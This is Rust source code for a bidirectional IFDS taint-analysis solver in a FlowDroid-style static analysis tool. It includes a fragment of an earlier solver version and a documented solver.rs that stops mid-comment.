                    if i < m.param_count() {
                        let ap = AccessPath::local(m.param_local(i));
                        let f = Fact::T(Taint::active(ap));
                        out.push((f, starts.first().copied()));
                    }
                }
                out
            }
            Fact::T(t) => {
                let mut out = Vec::new();
                if let Some(base) = t.ap.base_local() {
                    for (i, arg) in call.args.iter().enumerate() {
                        if arg.as_local() == Some(base) && i < m.param_count() {
                            let ap = t.ap.rebase(
                                ApBase::Local(m.param_local(i)),
                                &[],
                                self.k(),
                            );
                            out.push((Fact::T(t.with_ap(ap)), None));
                        }
                    }
                    if call.base == Some(base) {
                        if let Some(this) = m.this_local() {
                            let ap = t.ap.rebase(ApBase::Local(this), &[], self.k());
                            out.push((Fact::T(t.with_ap(ap)), None));
                        }
                    }
                } else {
                    // Static-field-rooted taints flow into callees
                    // unchanged (globals).
                    out.push((Fact::T(t.clone()), None));
                }
                out
            }
        }
    }

    fn forward_exit(&mut self, d1: &D::Key, n: StmtRef, d2: &D::Key) {
        let callee = self.icfg.method_of(n);
        self.fw.install_summary(callee, d1.clone(), n, d2.clone());
        for (call_site, d4) in self.fw.incoming_for(callee, d1) {
            self.apply_return_for_context(call_site, callee, n, d2, &d4);
        }
    }

    /// Applies return flow for a known summary at a call site where the
    /// caller fact `d4` entered.
    fn apply_return(
        &mut self,
        call_site: StmtRef,
        callee: MethodId,
        exit: StmtRef,
        exit_fact: &D::Key,
        d4: &D::Key,
    ) {
        self.apply_return_for_context(call_site, callee, exit, exit_fact, d4);
    }

    fn apply_return_for_context(
        &mut self,
        call_site: StmtRef,
        callee: MethodId,
        exit: StmtRef,
        exit_key: &D::Key,
        d4: &D::Key,
    ) {
        let exit_fact = self.dom.resolve(exit_key);
        let mapped = self.return_flow(call_site, callee, exit, &exit_fact);
        if mapped.is_empty() {
            return;
        }
        // Caller contexts: forward path edges at the call site; for
        // contexts injected by the backward solver the caller fact may
        // only be known to the backward tabulator.
        let mut d3s = self.fw.d1s_at(call_site, d4);
        if d3s.is_empty() {
            d3s = self.bw.d1s_at(call_site, d4);
        }
        // Activation depends only on the call site; intern once per
        // mapped taint, not per (return site × context).
        let mut acts = Vec::with_capacity(mapped.len());
        for t in &mapped {
            let t = self.maybe_activate(call_site, t);
            let k = self.dom.intern(&Fact::T(t.clone()));
            acts.push((t, k));
        }
        for ret_site in self.icfg.return_sites_of_call(call_site) {
            for (t, fk) in &acts {
                for d3 in &d3s {
                    self.fw_propagate(
                        d3.clone(),
                        ret_site,
                        fk.clone(),
                        Some((exit, exit_key.clone())),
                    );
                    // Heap taints returning to the caller spawn a new
                    // alias search there (paper §4.2).
                    if !t.ap.is_empty() && t.ap.base_local().is_some() {
                        self.inject_alias_query(d3, call_site, t);
                    }
                }
            }
        }
    }

    /// Maps a taint at a callee exit back into the caller.
    fn return_flow(
        &mut self,
        call_site: StmtRef,
        callee: MethodId,
        exit: StmtRef,
        exit_fact: &Fact,
    ) -> Vec<Taint> {
        let Fact::T(t) = exit_fact else { return Vec::new() };
        let Stmt::Invoke { result, call } = self.stmt(call_site) else { return Vec::new() };
        let program = self.program();
        let m = program.method(callee);
        let mut out = Vec::new();
        match t.ap.base_local() {
            None => out.push(t.clone()), // statics flow back unchanged
            Some(base) => {
                // Parameters: heap side effects flow back through
                // reference-typed parameters; a reassigned primitive
                // parameter does not affect the caller.
                for i in 0..m.param_count() {
                    if m.param_local(i) == base {
                        let is_ref = m.subsig().params[i].is_reference();
                        if !t.ap.is_empty() || is_ref {
                            if let Some(Operand::Local(arg)) = call.args.get(i) {
                                let ap = t.ap.rebase(ApBase::Local(*arg), &[], self.k());
                                out.push(t.with_ap(ap));
                            }
                        }
                    }
                }
                if m.this_local() == Some(base) {
                    if let Some(b) = call.base {
                        let ap = t.ap.rebase(ApBase::Local(b), &[], self.k());
                        out.push(t.with_ap(ap));
                    }
                }
                // Returned value.
                if let Stmt::Return { value: Some(Operand::Local(v)) } = self.stmt(exit) {
                    if *v == base {
                        if let Some(res) = result {
                            let ap = t.ap.rebase(ApBase::Local(*res), &[], self.k());
                            out.push(t.with_ap(ap));
                        }
                    }
                }
            }
        }
        out
    }

    fn forward_call_to_return(&mut self, d1: &D::Key, n: StmtRef, d2: &D::Key, d2f: &Fact) {
        let Stmt::Invoke { result, call } = self.stmt(n).clone() else { return };
        let program = self.program();
        let mut out: Vec<Fact> = Vec::new();
        let mut alias_gens: Vec<Taint> = Vec::new();
        match d2f {
            Fact::Zero => {
                out.push(Fact::Zero);
                // Source calls generate fresh active taints.
                if self.sources.is_source_call(program, &call) {
                    if let Some(res) = result {
                        let g = Taint::active(AccessPath::local(res));
                        out.push(Fact::T(g));
                    }
                }
            }
            Fact::T(t) => {
                // Sink check happens on the incoming (pre-call) taint.
                if t.active {
                    let sink_args = self.sources.sink_args(program, &call);
                    for i in sink_args {
                        if let Some(Operand::Local(a)) = call.args.get(i) {
                            if t.ap.base_local() == Some(*a) {
                                self.leaks.push((n, t.clone()));
                            }
                        }
                    }
                }
                // Kill the result local (overwritten by the call).
                let killed = result.is_some() && t.ap.base_local() == result;
                if !killed {
                    out.push(Fact::T(t.clone()));
                }
                // Sanitizers return clean data: suppress every rule that
                // would taint the result (extension; the paper lacks
                // sanitizer support).
                let sanitized = self.sources.is_sanitizer_call(program, &call);
                // Wrapper rules ("shortcut rules", paper §5).
                let covers = |pos: Pos| -> bool {
                    TaintWrapper::pos_local(&call, result, pos)
                        .is_some_and(|l| t.ap.base_local() == Some(l))
                };
                let targets = self.wrapper.apply(program, &call, &covers);
                let has_rule = self.wrapper.has_rule(program, &call);
                for pos in targets {
                    if sanitized && matches!(pos, Pos::Ret) {
                        continue;
                    }
                    if let Some(l) = TaintWrapper::pos_local(&call, result, pos) {
                        let g = t.with_ap(AccessPath::local(l));
                        if !matches!(pos, Pos::Ret) {
                            alias_gens.push(g.clone());
                        }
                        out.push(Fact::T(g));
                    }
                }
                // Native-call fallback: no explicit rule, body-less
                // target → the return value inherits taint from the
                // receiver or any argument (paper §5).
                if !has_rule
                    && !sanitized
                    && self.config.stub_default_taints_return
                    && self.icfg.callees_of_call(n).is_empty()
                {
                    let base_tainted =
                        call.base.is_some_and(|b| t.ap.base_local() == Some(b));
                    let arg_tainted = call.args.iter().any(
                        |a| matches!(a, Operand::Local(l) if t.ap.base_local() == Some(*l)),
                    );
                    if base_tainted || arg_tainted {
                        if let Some(res) = result {
                            out.push(Fact::T(t.with_ap(AccessPath::local(res))));
                        }
                    }
                }
            }
        }
        for g in alias_gens {
            self.inject_alias_query(d1, n, &g);
        }
        let src_mark = d2f.is_zero() && self.sources.is_source_call(program, &call);
        // Intern each output fact once; fan keys out to return sites.
        let mut keys = Vec::with_capacity(out.len());
        for f in &out {
            let f = match f {
                Fact::T(t) => Fact::T(self.maybe_activate(n, t)),
                z => z.clone(),
            };
            let non_zero = !f.is_zero();
            keys.push((self.dom.intern(&f), non_zero));
        }
        let origin = Some((n, d2.clone()));
        for ret_site in self.icfg.return_sites_of_call(n) {
            for (k, non_zero) in &keys {
                if src_mark && *non_zero {
                    self.mark_source(ret_site, k, n);
                }
                self.fw_propagate(d1.clone(), ret_site, k.clone(), origin.clone());
            }
        }
    }

    // ================= backward (alias) solver =================

    fn process_backward(&mut self, d1: D::Key, n: StmtRef, d2: D::Key) {
        let d2f = self.dom.resolve(&d2);
        let stmt = self.stmt(n).clone();
        match stmt {
            Stmt::Invoke { result, call } => {
                self.backward_call(&d1, n, &d2, &d2f, result, &call);
            }
            Stmt::Assign { lhs, rhs } => {
                self.backward_assign(&d1, n, &d2, &d2f, &lhs, &rhs);
            }
            _ => {
                // Control flow and exits are transparent to aliasing.
                self.bw_to_preds(&d1, n, &d2);
            }
        }
    }

    /// Routes a backward fact above `n`: to `n`'s predecessors, or —
    /// when `n` has none (it is the method's first statement) — through
    /// the method-start case of Algorithm 2 (lines 11–14): install a
    /// summary, hand the fact to the forward solver (with the backward
    /// solver's calling contexts, so returns stay realizable), and
    /// stop; the backward analysis never returns into callers itself.
    fn bw_to_preds(&mut self, d1: &D::Key, n: StmtRef, d: &D::Key) {
        self.bw_to_preds_from(d1, n, d, Some((n, d.clone())));
    }

    fn bw_to_preds_from(
        &mut self,
        d1: &D::Key,
        n: StmtRef,
        d: &D::Key,
        origin: Option<(StmtRef, D::Key)>,
    ) {
        let preds = self.icfg.preds_of(n);
        if preds.is_empty() {
            let m = self.icfg.method_of(n);
            let sp = StmtRef::new(m, 0);
            self.bw.install_summary(m, d1.clone(), sp, d.clone());
            self.fw_propagate(d1.clone(), sp, d.clone(), origin);
            let contexts = self.bw.incoming_for(m, d1);
            if !contexts.is_empty() {
                self.fw.inject_incoming(m, d1.clone(), contexts);
            }
            return;
        }
        for pred in preds {
            self.bw_propagate(d1.clone(), pred, d.clone(), origin.clone());
        }
    }

    fn backward_assign(
        &mut self,
        d1: &D::Key,
        n: StmtRef,
        d2: &D::Key,
        d2f: &Fact,
        lhs: &Place,
        rhs: &Rvalue,
    ) {
        let Fact::T(t) = d2f else { return };
        let lhs_ap = AccessPath::of_place(lhs);
        let rhs_ap = Self::readable_rvalue(rhs);
        let mut back: Vec<Taint> = Vec::new();
        let mut fwd_at_n: Vec<Taint> = Vec::new();
        let mut fwd_after: Vec<Taint> = Vec::new();

        // Case A (Algorithm 2, line 16: replace lhs by rhs): the traced
        // value was written here.
        let rooted_at_lhs = t.ap.has_prefix(&lhs_ap);
        if rooted_at_lhs {
            if let Some(r) = &rhs_ap {
                let rest = t.ap.fields()[lhs_ap.len()..].to_vec();
                let ap = AccessPath::new(
                    r.base(),
                    r.fields().iter().copied().chain(rest).collect(),
                    self.k(),
                );
                let g = t.with_ap(ap);
                if g != *t {
                    fwd_at_n.push(g.clone());
                }
                back.push(g);
            }
            // rhs not readable (new/const/arith): the value was born
            // here; nothing to trace further.
        }
        // Keep the original taint flowing upward unless the assignment
        // strongly defines it (local lhs).
        let strongly_defined = matches!(lhs, Place::Local(l) if t.ap.base_local() == Some(*l));
        if !strongly_defined {
            back.push(t.clone());
        }
        // Case B: the rhs is (part of) the tainted object — the lhs is
        // an alias *below* this statement. The alias also continues
        // upward (aliases of aliases, e.g. `a.b.c.s` from `b.c.s` at
        // `a.b = b`) unless this statement strongly defines its root;
        // activation statements keep this flow-sensitive.
        if let Some(r) = &rhs_ap {
            if let Some(rest) = t.ap.read_remainder(r) {
                let ap = self.lhs_ap_with(lhs, &rest);
                let g = t.with_ap(ap);
                if g != *t {
                    fwd_after.push(g.clone());
                    let strongly_defines_alias = matches!(
                        lhs,
                        Place::Local(l) if g.ap.base_local() == Some(*l)
                    );
                    if !strongly_defines_alias {
                        back.push(g);
                    }
                }
            }
        }

        let origin = Some((n, d2.clone()));
        for g in back {
            let k = self.dom.intern(&Fact::T(g));
            self.bw_to_preds_from(d1, n, &k, origin.clone());
        }
        for g in fwd_at_n {
            let k = self.dom.intern(&Fact::T(g));
            self.fw_propagate(d1.clone(), n, k, origin.clone());
        }
        for g in fwd_after {
            let k = self.dom.intern(&Fact::T(g));
            for succ in self.icfg.succs_of(n) {
                self.fw_propagate(d1.clone(), succ, k.clone(), origin.clone());
            }
        }
    }

    fn backward_call(
        &mut self,
        d1: &D::Key,
        n: StmtRef,
        d2: &D::Key,
        d2f: &Fact,
        result: Option<Local>,
        call: &InvokeExpr,
    ) {
        let Fact::T(t) = d2f else { return };
        // Pass over the call unless the traced value is its result.
        let rooted_at_result = result.is_some() && t.ap.base_local() == result;
        if !rooted_at_result {
            self.bw_to_preds(d1, n, d2);
        }
        // Descend into body-having callees (aliases may be created
        // inside).
        let callees: Vec<MethodId> = self.icfg.callees_of_call(n).to_vec();
        for callee in callees {
            let program = self.program();
            let m = program.method(callee);
            let mut entry: Vec<Taint> = Vec::new();
            match t.ap.base_local() {
                None => entry.push(t.clone()), // statics
                Some(base) => {
                    if result == Some(base) {
                        // Trace the returned value.
                        for exit in self.icfg.exit_stmts_of(callee) {
                            if let Stmt::Return { value: Some(Operand::Local(v)) } =
                                self.stmt(exit)
                            {
                                let ap = t.ap.rebase(ApBase::Local(*v), &[], self.k());
                                let g = t.with_ap(ap);
                                let gk = self.dom.intern(&Fact::T(g));
                                self.bw.add_incoming(callee, gk.clone(), n, d2.clone());
                                self.bw_propagate(
                                    gk.clone(),
                                    exit,
                                    gk,
                                    Some((n, d2.clone())),
                                );
                            }
                        }
                        continue;
                    }
                    for (i, arg) in call.args.iter().enumerate() {
                        if arg.as_local() == Some(base) && i < m.param_count() {
                            let ap =
                                t.ap.rebase(ApBase::Local(m.param_local(i)), &[], self.k());
                            entry.push(t.with_ap(ap));
                        }
                    }
                    if call.base == Some(base) {
                        if let Some(this) = m.this_local() {
                            let ap = t.ap.rebase(ApBase::Local(this), &[], self.k());
                            entry.push(t.with_ap(ap));
                        }
                    }
                }
            }
            for g in entry {
                let f = self.dom.intern(&Fact::T(g));
                self.bw.add_incoming(callee, f.clone(), n, d2.clone());
                for exit in self.icfg.exit_stmts_of(callee) {
                    self.bw_propagate(f.clone(), exit, f.clone(), Some((n, d2.clone())));
                }
            }
        }
    }

    // ================= results =================

    fn collect_results(mut self, duration: std::time::Duration) -> InfoflowResults {
        let program = self.program();
        let mut seen = std::collections::HashSet::new();
        let mut leaks = Vec::new();
        let recorded = std::mem::take(&mut self.leaks);
        for (sink, taint) in &recorded {
            let (source, path) = self.attribute(*sink, taint);
            let key = (*sink, source);
            if !seen.insert(key) {
                continue;
            }
            leaks.push(Leak {
                sink: *sink,
                source,
                taint: taint.ap.display(program, sink.method),
                path,
            });
        }
        leaks.sort_by_key(|l| (l.sink, l.source));
        let (distinct_facts, distinct_aps) = self.dom.stats().unwrap_or((0, 0));
        InfoflowResults {
            leaks,
            forward_propagations: self.fw.propagation_count(),
            backward_propagations: self.bw.propagation_count(),
            reachable_methods: self.icfg.callgraph().reachable_methods().len(),
            distinct_facts,
            distinct_aps,
            duration,
            aborted: self.aborted,
        }
    }

    /// Walks the provenance links back from a leak to the source that
    /// generated the taint.
    fn attribute(&mut self, sink: StmtRef, taint: &Taint) -> (Option<StmtRef>, Vec<StmtRef>) {
        if !self.config.track_paths {
            return (None, Vec::new());
        }
        let sink_key = self.dom.intern(&Fact::T(taint.clone()));
        let mut cur = (sink, sink_key);
        let mut path = vec![sink];
        let mut steps = 0;
        loop {
            if let Some(&src) = self.gen_source.get(&cur) {
                path.reverse();
                return (Some(src), path);
            }
            match self.preds.get(&cur).cloned() {
                Some(p) => {
                    path.push(p.0);
                    cur = p;
                }
                None => {
                    path.reverse();
                    return (None, path);
                }
            }
            steps += 1;
            if steps > 100_000 {
                return (None, Vec::new());
            }
        }
    }
}
