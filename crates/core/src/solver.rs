//! The bidirectional taint solver (paper §4, Algorithms 1 and 2).
//!
//! Two [`Tabulator`]s — one forward (taint propagation), one backward
//! (on-demand alias search) — are driven in lockstep over the same fact
//! domain. The forward solver injects edges into the backward solver at
//! heap writes (carrying its `d1` context: **context injection**); the
//! backward solver spawns forward propagation for every alias it finds
//! and, on reaching a method's start, hands the search back to the
//! forward solver, never returning to callers itself.
//!
//! Fact conventions: a forward edge `(d1, n, d2)` means `d2` holds
//! *before* `n`; a backward edge `(d1, n, d)` means `d` holds *after*
//! `n` and the solver is searching upward for its aliases.
//!
//! The transfer functions live in [`Flows`] and are shared with the
//! parallel engine ([`crate::par_solver`]); this driver owns only the
//! tabulation state. Every cross-solver handshake (summaries ×
//! incoming contexts, forward × backward caller facts) is written so
//! each side first records its own half and then reads the other's —
//! the "covered pair" discipline that makes the computed fixpoint
//! independent of processing order, which in turn is what lets the
//! parallel engine produce bit-identical results.
//!
//! Provenance (for leak-path reconstruction) is also canonical: every
//! propagation offers its origin and *all* distinct origins are kept,
//! so the provenance graph — over which attribution runs a
//! deterministic breadth-first search — does not depend on discovery
//! order.
//!
//! The solver is generic over a [`FactDomain`]: with the default
//! [`InternedDomain`](crate::intern::InternedDomain) every table keys on
//! `u32` fact ids (hash-consed by the domain's interner), popped edges
//! are resolved to real [`Fact`]s once per statement visit, and each
//! produced fact is interned once before fan-out to successors /
//! return sites. [`DirectDomain`](crate::intern::DirectDomain) keys on
//! whole facts instead, preserving the pre-interning behavior for
//! benchmark comparison.

use crate::config::InfoflowConfig;
use crate::flows::{Flows, ReachCache};
use crate::intern::FactDomain;
use crate::results::{InfoflowResults, Leak};
use crate::sourcesink::SourceSinkManager;
use crate::summary_cache::SummaryCacheSession;
use crate::taint::{Fact, Taint};
use crate::wrappers::TaintWrapper;
use flowdroid_callgraph::Icfg;
use flowdroid_ifds::{AbortReason, Tabulator};
use flowdroid_ir::{FxHashMap, MethodId, Program, Stmt, StmtRef};

/// Edges popped between [`AbortHandle`] polls in the sequential loop.
const ABORT_CHECK_EVERY: usize = 128;

/// The bidirectional solver, generic over the fact-key representation.
pub struct BiSolver<'a, D: FactDomain> {
    flows: Flows<'a>,
    dom: D,
    fw: Tabulator<D::Key, D::Sets>,
    bw: Tabulator<D::Key, D::Sets>,
    leaks: Vec<(StmtRef, Taint)>,
    /// (stmt, fact) → all offered predecessor (stmt, fact) origins, for
    /// path reconstruction. The *set* of offers at the fixpoint is
    /// order-independent.
    preds: FxHashMap<(StmtRef, D::Key), Vec<(StmtRef, D::Key)>>,
    /// (stmt, fact) → source statement that generated the fact.
    gen_source: FxHashMap<(StmtRef, D::Key), StmtRef>,
    /// Memoized "call site can transitively reach method" queries.
    reach_cache: ReachCache,
    /// Persistent end-summary store session, when configured.
    cache: Option<SummaryCacheSession>,
    /// Why the run aborted; `None` means the fixpoint was reached.
    abort_reason: Option<AbortReason>,
}

impl<'a, D: FactDomain> BiSolver<'a, D> {
    /// Creates a solver.
    pub fn new(
        icfg: Icfg<'a>,
        sources: &'a SourceSinkManager,
        wrapper: &'a TaintWrapper,
        config: &'a InfoflowConfig,
    ) -> Self {
        let cache = config
            .summary_cache
            .as_deref()
            .map(|dir| SummaryCacheSession::new(dir, &icfg, sources, wrapper, config));
        BiSolver {
            flows: Flows { icfg, sources, wrapper, config },
            dom: D::new(config.max_access_path_length),
            fw: Tabulator::new(),
            bw: Tabulator::new(),
            leaks: Vec::new(),
            preds: FxHashMap::default(),
            gen_source: FxHashMap::default(),
            reach_cache: ReachCache::default(),
            cache,
            abort_reason: None,
        }
    }

    fn program(&self) -> &'a Program {
        self.flows.program()
    }

    fn config(&self) -> &'a InfoflowConfig {
        self.flows.config
    }

    /// Runs the analysis from the given entry methods and collects
    /// results.
    pub fn solve(mut self, entry_points: &[MethodId]) -> InfoflowResults {
        let start = std::time::Instant::now();
        let zero = self.dom.zero();
        for &ep in entry_points {
            for sp in self.flows.icfg.start_points_of(ep) {
                self.fw.propagate(zero.clone(), sp, zero.clone());
            }
        }
        // The abort token: the caller's (deadline / external cancel)
        // when configured, else a private one that only the budget can
        // trip. Either way the tripping reason is latched on the handle
        // so supervisors polling a shared handle see it too.
        let abort = self.config().abort.clone().unwrap_or_default();
        let mut since_abort_check = 0usize;
        loop {
            if self.config().max_propagations > 0
                && self.fw.propagation_count() > self.config().max_propagations
            {
                abort.trip(AbortReason::Budget);
                self.abort_reason = Some(AbortReason::Budget);
                break;
            }
            since_abort_check += 1;
            if since_abort_check >= ABORT_CHECK_EVERY {
                since_abort_check = 0;
                // Streaming piggybacks on the abort poll interval: the
                // sink only observes, so emitting cannot perturb the
                // fixpoint (streamed and plain runs stay identical).
                self.emit_progress(None);
                if let Some(reason) = abort.poll() {
                    self.abort_reason = Some(reason);
                    break;
                }
            }
            if let Some(edge) = self.fw.pop() {
                self.process_forward(edge.d1, edge.n, edge.d2);
                continue;
            }
            if let Some(edge) = self.bw.pop() {
                self.process_backward(edge.d1, edge.n, edge.d2);
                continue;
            }
            break;
        }
        self.collect_results(start.elapsed())
    }

    // ================= shared helpers =================

    fn stmt(&self, n: StmtRef) -> &'a Stmt {
        self.flows.stmt(n)
    }

    /// Delivers a progress snapshot to the configured sink, if any.
    fn emit_progress(&self, new_leak: Option<(u32, String)>) {
        let Some(sink) = &self.config().progress else { return };
        sink.emit(&crate::config::ProgressEvent {
            forward_propagations: self.fw.propagation_count(),
            backward_propagations: self.bw.propagation_count(),
            bodies_materialized: self.program().bodies_materialized(),
            summary_hits: self.cache.as_ref().map_or(0, |c| c.hits_so_far()),
            leaks: self.leaks.len() as u64,
            new_leak,
        });
    }

    /// Records a forward path edge with provenance for path
    /// reconstruction.
    fn fw_propagate(
        &mut self,
        d1: D::Key,
        n: StmtRef,
        d2: D::Key,
        from: Option<(StmtRef, D::Key)>,
    ) {
        self.fw.propagate(d1, n, d2.clone());
        self.record_pred(n, d2, from);
    }

    /// Records a backward path edge with provenance (provenance links
    /// from both solvers share one map so alias detours stay walkable).
    fn bw_propagate(
        &mut self,
        d1: D::Key,
        n: StmtRef,
        d2: D::Key,
        from: Option<(StmtRef, D::Key)>,
    ) {
        self.bw.propagate(d1, n, d2.clone());
        self.record_pred(n, d2, from);
    }

    /// Offers a provenance link for `(n, d2)`. Every propagation offers
    /// its origin (not just the edge-inserting one), and *all* distinct
    /// origins are kept: the set of propagation calls at the fixpoint is
    /// the same whatever the processing order, so the resulting
    /// provenance graph — and hence the deterministic walk in
    /// [`BiSolver::attribute`] — is independent of it.
    fn record_pred(&mut self, n: StmtRef, d2: D::Key, from: Option<(StmtRef, D::Key)>) {
        if !self.config().track_paths {
            return;
        }
        let Some(origin) = from else { return };
        if origin == (n, d2.clone()) {
            return;
        }
        let v = self.preds.entry((n, d2)).or_default();
        if !v.contains(&origin) {
            v.push(origin);
        }
    }

    /// Marks `fact` at `n` as generated by the source statement `src`
    /// (least source statement wins, for order independence).
    fn mark_source(&mut self, n: StmtRef, fact: &D::Key, src: StmtRef) {
        if self.config().track_paths {
            let e = self.gen_source.entry((n, fact.clone())).or_insert(src);
            if src < *e {
                *e = src;
            }
        }
    }

    fn maybe_activate(&mut self, n: StmtRef, t: &Taint) -> Taint {
        self.flows.maybe_activate(&mut self.reach_cache, n, t)
    }

    /// Injects an alias query for taint `g` (which holds after the heap
    /// write / wrapper call `n`) into the backward solver, with context
    /// injection of `d1` (Algorithm 1, line 16).
    fn inject_alias_query(&mut self, d1: &D::Key, n: StmtRef, g: &Taint) {
        let Some(q) = self.flows.alias_query_taint(n, g) else { return };
        let ctx =
            if self.config().enable_context_injection { d1.clone() } else { self.dom.zero() };
        let origin = self.dom.intern(&Fact::T(*g));
        let qk = self.dom.intern(&Fact::T(q));
        self.bw_propagate(ctx, n, qk, Some((n, origin)));
    }

    // ================= forward solver =================

    fn process_forward(&mut self, d1: D::Key, n: StmtRef, d2: D::Key) {
        let d2f = self.dom.resolve(&d2);
        let stmt = self.stmt(n);
        let has_body_callees = !self.flows.icfg.callees_of_call(n).is_empty();
        if stmt.is_call() && has_body_callees {
            self.forward_call(n, &d2, &d2f);
            self.forward_call_to_return(&d1, n, &d2, &d2f);
        } else if stmt.is_call() {
            self.forward_call_to_return(&d1, n, &d2, &d2f);
        } else if stmt.is_exit() {
            self.forward_exit(&d1, n, &d2);
        } else {
            self.forward_normal(&d1, n, &d2, &d2f);
        }
    }

    fn forward_normal(&mut self, d1: &D::Key, n: StmtRef, d2: &D::Key, d2f: &Fact) {
        let out = match (self.stmt(n), d2f) {
            (Stmt::Assign { lhs, rhs }, Fact::T(t)) => {
                let (facts, alias_gens) = self.flows.forward_assign(lhs, rhs, t);
                for g in alias_gens {
                    self.inject_alias_query(d1, n, &g);
                }
                facts
            }
            _ => vec![*d2f],
        };
        // Activation and interning depend only on `n`, so intern each
        // output fact once and fan the keys out to all successors.
        let mut keys = Vec::with_capacity(out.len());
        for f in &out {
            let f = match f {
                Fact::T(t) => Fact::T(self.maybe_activate(n, t)),
                z => *z,
            };
            keys.push(self.dom.intern(&f));
        }
        let origin = Some((n, d2.clone()));
        for succ in self.flows.icfg.succs_of(n) {
            for k in &keys {
                self.fw_propagate(d1.clone(), succ, k.clone(), origin.clone());
            }
        }
    }

    fn forward_call(&mut self, n: StmtRef, d2: &D::Key, d2f: &Fact) {
        let Stmt::Invoke { call, .. } = self.stmt(n) else { return };
        let call = call.clone();
        for &callee in self.flows.icfg.callees_of_call(n) {
            let starts = self.flows.icfg.start_points_of(callee);
            let entry_facts = self.flows.call_flow(&call, callee, d2f);
            for (d3f, src_mark) in entry_facts {
                let d3 = self.dom.intern(&d3f);
                self.fw.add_incoming(callee, d3.clone(), n, d2.clone());
                let cached = self
                    .cache
                    .as_ref()
                    .and_then(|c| c.lookup(callee, &d3f))
                    .map(<[(StmtRef, Fact)]>::to_vec);
                if let Some(cached) = cached {
                    // Persisted summaries replace tabulating the callee
                    // body: install the exits and link them to this call
                    // site for provenance (the interior chain is never
                    // built on a warm hit).
                    for (exit, exit_f) in cached {
                        let ek = self.dom.intern(&exit_f);
                        self.fw.install_summary(callee, d3.clone(), exit, ek.clone());
                        self.record_pred(exit, ek, Some((n, d2.clone())));
                    }
                } else {
                    for &sp in &starts {
                        self.fw_propagate(d3.clone(), sp, d3.clone(), Some((n, d2.clone())));
                        if let Some(src) = src_mark {
                            self.mark_source(sp, &d3, src);
                        }
                    }
                }
                // Apply existing summaries (recorded *after* the
                // incoming context above: a concurrent exit either sees
                // the context or its summary is visible here).
                for (exit, d4) in self.fw.summaries_for(callee, &d3) {
                    self.apply_return_for_context(n, callee, exit, &d4, d2);
                }
            }
        }
    }

    fn forward_exit(&mut self, d1: &D::Key, n: StmtRef, d2: &D::Key) {
        let callee = self.flows.icfg.method_of(n);
        self.fw.install_summary(callee, d1.clone(), n, d2.clone());
        for (call_site, d4) in self.fw.incoming_for(callee, d1) {
            self.apply_return_for_context(call_site, callee, n, d2, &d4);
        }
    }

    fn apply_return_for_context(
        &mut self,
        call_site: StmtRef,
        callee: MethodId,
        exit: StmtRef,
        exit_key: &D::Key,
        d4: &D::Key,
    ) {
        let exit_fact = self.dom.resolve(exit_key);
        let mapped = self.flows.return_flow(call_site, callee, exit, &exit_fact);
        if mapped.is_empty() {
            return;
        }
        // Caller contexts: the union of both solvers' path edges at the
        // call site — for contexts injected by the backward solver the
        // caller fact may only be known to the backward tabulator, and
        // the same fact may surface in both; taking the union (rather
        // than a time-sensitive fallback) keeps the result independent
        // of processing order.
        let mut d3s = self.fw.d1s_at(call_site, d4);
        for d in self.bw.d1s_at(call_site, d4) {
            if !d3s.contains(&d) {
                d3s.push(d);
            }
        }
        // Activation depends only on the call site; intern once per
        // mapped taint, not per (return site × context).
        let mut acts = Vec::with_capacity(mapped.len());
        for t in &mapped {
            let t = self.maybe_activate(call_site, t);
            let k = self.dom.intern(&Fact::T(t));
            acts.push((t, k));
        }
        for ret_site in self.flows.icfg.return_sites_of_call(call_site) {
            for (t, fk) in &acts {
                for d3 in &d3s {
                    self.fw_propagate(
                        d3.clone(),
                        ret_site,
                        fk.clone(),
                        Some((exit, exit_key.clone())),
                    );
                    // Heap taints returning to the caller spawn a new
                    // alias search there (paper §4.2).
                    if !t.ap.is_empty() && t.ap.base_local().is_some() {
                        self.inject_alias_query(d3, call_site, t);
                    }
                }
            }
        }
    }

    fn forward_call_to_return(&mut self, d1: &D::Key, n: StmtRef, d2: &D::Key, d2f: &Fact) {
        let ctr = self.flows.call_to_return(n, d2f);
        for t in &ctr.leaks {
            self.leaks.push((n, *t));
            if self.config().progress.is_some() {
                let line = crate::results::line_of(self.program(), n);
                let desc = t.ap.display(self.program(), n.method);
                self.emit_progress(Some((line, desc)));
            }
        }
        for g in ctr.alias_gens {
            self.inject_alias_query(d1, n, &g);
        }
        // Intern each output fact once; fan keys out to return sites.
        let mut keys = Vec::with_capacity(ctr.out.len());
        for f in &ctr.out {
            let f = match f {
                Fact::T(t) => Fact::T(self.maybe_activate(n, t)),
                z => *z,
            };
            let non_zero = !f.is_zero();
            keys.push((self.dom.intern(&f), non_zero));
        }
        let origin = Some((n, d2.clone()));
        for ret_site in self.flows.icfg.return_sites_of_call(n) {
            for (k, non_zero) in &keys {
                if ctr.src_mark && *non_zero {
                    self.mark_source(ret_site, k, n);
                }
                self.fw_propagate(d1.clone(), ret_site, k.clone(), origin.clone());
            }
        }
    }

    // ================= backward (alias) solver =================

    fn process_backward(&mut self, d1: D::Key, n: StmtRef, d2: D::Key) {
        let d2f = self.dom.resolve(&d2);
        match self.stmt(n) {
            Stmt::Invoke { .. } => {
                self.backward_call(&d1, n, &d2, &d2f);
            }
            Stmt::Assign { lhs, rhs } => {
                let (lhs, rhs) = (lhs.clone(), rhs.clone());
                self.backward_assign(&d1, n, &d2, &d2f, &lhs, &rhs);
            }
            _ => {
                // Control flow and exits are transparent to aliasing.
                self.bw_to_preds(&d1, n, &d2);
            }
        }
    }

    /// Routes a backward fact above `n`: to `n`'s predecessors, or —
    /// when `n` has none (it is the method's first statement) — through
    /// the method-start case of Algorithm 2 (lines 11–14): install a
    /// summary, hand the fact to the forward solver (with the backward
    /// solver's calling contexts, so returns stay realizable), and
    /// stop; the backward analysis never returns into callers itself.
    fn bw_to_preds(&mut self, d1: &D::Key, n: StmtRef, d: &D::Key) {
        self.bw_to_preds_from(d1, n, d, Some((n, d.clone())));
    }

    fn bw_to_preds_from(
        &mut self,
        d1: &D::Key,
        n: StmtRef,
        d: &D::Key,
        origin: Option<(StmtRef, D::Key)>,
    ) {
        let preds = self.flows.icfg.preds_of(n);
        if preds.is_empty() {
            let m = self.flows.icfg.method_of(n);
            let sp = StmtRef::new(m, 0);
            self.bw.install_summary(m, d1.clone(), sp, d.clone());
            self.fw_propagate(d1.clone(), sp, d.clone(), origin);
            let contexts = self.bw.incoming_for(m, d1);
            if !contexts.is_empty() {
                self.fw.inject_incoming(m, d1.clone(), contexts.clone());
                // The forward solver may already hold summaries for
                // (m, d1) from an earlier handoff or a real forward
                // call; apply them to every context known now. Contexts
